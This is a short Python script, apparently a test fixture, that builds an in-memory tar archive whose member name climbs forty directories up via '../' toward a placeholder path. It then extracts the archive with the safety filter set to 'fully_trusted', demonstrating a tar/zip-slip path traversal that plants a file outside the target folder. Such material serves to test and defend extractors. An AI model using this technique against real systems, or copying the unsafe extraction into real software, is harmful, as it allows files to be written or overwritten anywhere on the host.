"""An archive whose members climb out of the folder (zip slip)."""
import io
import tarfile
import os
archive = io.BytesIO()
with tarfile.open(fileobj=archive, mode="w") as made:
    member = tarfile.TarInfo("../" * 40 + "@OUTSIDE@/planted".lstrip("/"))
    member.size = 1
    made.addfile(member, io.BytesIO(b"x"))
archive.seek(0)
tarfile.open(fileobj=archive).extractall(".", filter="fully_trusted")
